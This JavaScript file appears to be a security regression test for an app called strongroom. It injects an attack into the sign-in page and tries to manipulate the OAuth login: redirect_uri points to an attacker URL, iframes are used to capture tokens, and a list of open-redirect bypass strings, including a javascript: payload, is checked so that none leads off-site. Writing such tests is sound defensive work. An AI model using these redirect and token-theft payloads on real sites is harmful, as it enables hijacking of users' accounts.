import { attack } from "../attack.js";

export default attack({
  name: "opens the login endpoint with its own parameters",
  threat: "manipulating the sign-in",
  target: "strongroom",
  async payload(it) {
    const parameters = new URLSearchParams({
      silent: "1",
      returnTo: "/",
      state: `attack.${it.attackerUrl.split("/").at(-1)}`,
      nonce: "attack",
      code_challenge: it.codeChallenge,
      code_challenge_method: "S256",
      redirect_uri: `${it.attackerUrl}/callback`,
      response_mode: "fragment",
      response_type: "code token",
      client_id: it.clientId,
      prompt: "none",
    });
    for (const query of [
      `${parameters}`,
      `silent=1&returnTo=//${new URL(it.attackerUrl).host}`,
      `silent=1&returnTo=/%5c${new URL(it.attackerUrl).host}`,
    ]) {
      const frame = document.createElement("iframe");
      frame.src = `/auth/login?${query}`;
      document.body.append(frame);
      await it.pause(500);
      try {
        it.steal(frame.contentWindow?.location.href);
      } catch {
        // Cross-origin.
      }
      const response = await fetch(`/auth/login?${query}`, { redirect: "manual" }).catch(() => undefined);
      it.steal(response?.url, [...(response?.headers ?? [])], await response?.text());
    }
  },
  async play(stage) {
    await stage.openSignedIn();
    await stage.signOut();
    await stage.inject();
    for (const returnTo of [
      `//127.0.0.1`,
      `/\\127.0.0.1`,
      `http://127.0.0.1`,
      "/%2e%2e//127.0.0.1",
      "javascript:alert(1)",
      "/\t/127.0.0.1",
    ]) {
      await stage.browser.goto(
        `${stage.site.origin}/auth/login?${new URLSearchParams({ returnTo, prompt: "none", code_challenge: stage.facts.codeChallenge })}`,
      );
      const { hostname } = new URL(await stage.browser.url());
      if (hostname === "127.0.0.1") throw new Error(`returnTo=${returnTo} led to ${hostname}`);
    }
  },
});
